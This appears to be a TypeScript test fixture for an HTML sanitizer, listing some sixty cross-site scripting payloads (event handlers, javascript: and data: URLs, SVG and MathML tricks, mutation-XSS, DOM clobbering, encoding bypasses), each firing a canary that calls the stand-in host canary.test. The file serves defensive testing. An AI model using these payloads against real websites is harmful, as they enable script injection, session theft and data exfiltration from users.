/** Bodies of articles that try to run a script. Each also says its own word, so that searches find it. */
export interface Sample {
  name: string;
  html: string;
}

/** What any of them would do if it ran: leave a mark that is looked for, say so, and call home. */
const RUN = "top.canary=1;self.canary=1;console.log('canary ran');fetch('https://canary.test/ran')";
const ATTRIBUTE = RUN.replaceAll('"', '&quot;');
const ENCODED = [...RUN].map((character) => `&#${character.charCodeAt(0)};`).join('');
const DATA = `data:text/html;base64,${Buffer.from(`<script>${RUN}</script>`).toString('base64')}`;

const TABLE: Readonly<Record<string, string>> = {
  script: `<script>${RUN}</script>`,
  'script in capitals': `<SCRIPT type=module>${RUN}</SCRIPT >`,
  'script from elsewhere': '<script src="https://canary.test/a.js"></script>',
  'script in a script': `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  'script never closed': `<p>a</p><script>${RUN}//`,
  'script with NUL': `<scr\0ipt>${RUN}</script>`,
  'image that fails': `<img src=x onerror="${ATTRIBUTE}">`,
  'image with a slash': `<img/src=x/onerror=${RUN.replaceAll(' ', '%20')}>`,
  'image with broken quotes': `<img """><script>${RUN}</script>">`,
  'image by address': `<img src="javascript:${ATTRIBUTE}">`,
  'handler of pointers': `<a href="#" onmouseover="${ATTRIBUTE}" onfocus="${ATTRIBUTE}" autofocus tabindex=1>x</a>`,
  'handler of details': `<details open ontoggle="${ATTRIBUTE}"><summary>x</summary></details>`,
  'handler of a body': `<body onload="${ATTRIBUTE}" onpageshow="${ATTRIBUTE}">`,
  'handler of a video': `<video src=x onerror="${ATTRIBUTE}"><source src=x onerror="${ATTRIBUTE}"></video>`,
  'handler of an animation': `<style>@keyframes x{}</style><p style="animation:x" onanimationstart="${ATTRIBUTE}">x</p>`,
  'link that runs': `<a href="javascript:${ATTRIBUTE}">x</a>`,
  'link with a tab': `<a href="java\tscript:${ATTRIBUTE}">x</a>`,
  'link with a line end': `<a href=" &#14; javascript&colon;${ATTRIBUTE}">x</a>`,
  'link in entities': `<a href="&#106;&#97;vascript&#58;${ENCODED}">x</a>`,
  'link of VBScript': '<a href="vbscript:msgbox(1)">x</a>',
  'link of data': `<a href="${DATA}" target=_top>x</a>`,
  SVG: `<svg onload="${ATTRIBUTE}"><script>${RUN}</script><a xlink:href="javascript:${ATTRIBUTE}"><text>x</text></a></svg>`,
  'SVG that animates': `<svg><animate attributeName=href values="javascript:${ATTRIBUTE}" onbegin="${ATTRIBUTE}" /><use href="${DATA}#x"/></svg>`,
  'SVG in an image': `<img src="data:image/svg+xml;base64,${Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" onload="${RUN}"/>`).toString('base64')}">`,
  MathML: `<math href="javascript:${ATTRIBUTE}"><mtext><script>${RUN}</script></mtext></math>`,
  frame: `<iframe src="javascript:${ATTRIBUTE}"></iframe>`,
  'frame with a page': `<iframe srcdoc="&lt;script&gt;${ATTRIBUTE}&lt;/script&gt;"></iframe>`,
  'frame of data': `<iframe src="${DATA}" title="${DATA}"></iframe>`,
  'object and embed': `<object data="${DATA}"></object><embed src="${DATA}"><applet code=x></applet>`,
  form: `<form action="https://canary.test/take"><input name=a autofocus onfocus="${ATTRIBUTE}"><button formaction="javascript:${ATTRIBUTE}">x</button></form>`,
  'form that clobbers': '<form id=document name=cookie><input name=querySelector></form><img name=getElementById id=body>',
  style: `<style>@import url(https://canary.test/a.css);body{background:url(https://canary.test/b)}</style><p style="background:url(https://canary.test/c)">x</p>`,
  'style by expression': `<p style="width:expression(${ATTRIBUTE});behavior:url(#x);-moz-binding:url(https://canary.test/x)">x</p>`,
  refresh: `<meta http-equiv="refresh" content="0;url=https://canary.test/away"><meta http-equiv=refresh content="0;url=${DATA}">`,
  'base and link':
    '<base href="https://canary.test/"><link rel=stylesheet href="https://canary.test/a.css"><link rel=prefetch href="https://canary.test/p">',
  comment: `<!--><script>${RUN}</script>--><!-- --!><img src=x onerror="${ATTRIBUTE}">-->`,
  'comment of another browser': `<!--[if gte IE 4]><script>${RUN}</script><![endif]-->`,
  CDATA: `<![CDATA[<script>${RUN}</script>]]><?xml version="1.0"?><?php echo 1 ?>`,
  'mutates in a noscript': `<noscript><p title="</noscript><img src=x onerror=&quot;${ATTRIBUTE}&quot;>">x</p></noscript>`,
  'mutates in a title': `<title><a title="</title><img src=x onerror='${ATTRIBUTE}'>">x</a></title>`,
  'mutates in a textarea': `<textarea><p id="</textarea><img src=x onerror='${ATTRIBUTE}'>"></p></textarea>`,
  'mutates in XMP': `<xmp><p title="</xmp><img src=x onerror='${ATTRIBUTE}'>"></xmp>`,
  'mutates in a style': `<svg></p><style><a id="</style><img src=x onerror='${ATTRIBUTE}'>"></style></svg>`,
  'mutates in MathML': `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror='${ATTRIBUTE}'&gt;"></table></mtext></math>`,
  'mutates in a form': `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror="${ATTRIBUTE}"></style></form>`,
  'mutates in a template': `<template><script>${RUN}</script><img src=x onerror="${ATTRIBUTE}"></template>`,
  'mutates in a table': `<table><tr><td><a href="javascript:${ATTRIBUTE}"><table><td><svg><desc><td></desc><img src=x onerror="${ATTRIBUTE}">`,
  'backticks for quotes': '<img alt="`` onerror=top.canary=1 src=x" title="``onmouseover=top.canary=1">',
  'quotes in a title': `<p title='"><img src=x onerror="${ATTRIBUTE}">'>x</p>`,
  'quotes in a language': `<p lang='"><script>${RUN}</script>' dir='"onload=x'>x</p>`,
  'entities once': `&lt;script&gt;${ATTRIBUTE}&lt;/script&gt;&lt;img src=x onerror=top.canary=1&gt;`,
  'entities twice': '&amp;lt;img src=x onerror=top.canary=1&amp;gt;',
  'entities without an end': '&lt<script>top.canary=1</script>&#x3c;img src=x onerror=top.canary=1&#x3e',
  'markers of templates': '{{constructor.constructor("top.canary=1")()}} ${top.canary=1} <%= 1 %> #{1} [[${1}]] <mark>x</mark> </mark>',
  'markers of frameworks': `<div v-html="x" ng-app ng-init="${ATTRIBUTE}" x-data="${ATTRIBUTE}" data-bind="x" is="x-y" slot=a part=b>x</div>`,
  'half a surrogate': '<p>\ud800<img src=x onerror=top.canary=1>\udfff</p>',
  'another charset': '+ADw-script+AD4-top.canary=1+ADw-/script+AD4- <meta charset=utf-7>',
};

export const SAMPLES: readonly Sample[] = Object.entries(TABLE).map(([name, html]) => ({ name, html }));

/** Of these a browser shows something that looks like markup or code, as text; so do we. */
export const SHOWN_AS_TEXT = /^entities|^markers of templates|^another charset|^script in a script|^script with NUL|^mutates in a title/;

/** A word that no other sample has. */
export const wordOf = (sample: number): string => `kanarie${String.fromCharCode(97 + Math.floor(sample / 26), 97 + (sample % 26))}`;

/** Before and after, so that something of the article is left whatever a sample swallows. */
export const bodyOf = ({ html }: Sample, number: number): string => `<p>Word ${wordOf(number)} before.</p>${html}<p>After.</p>`;
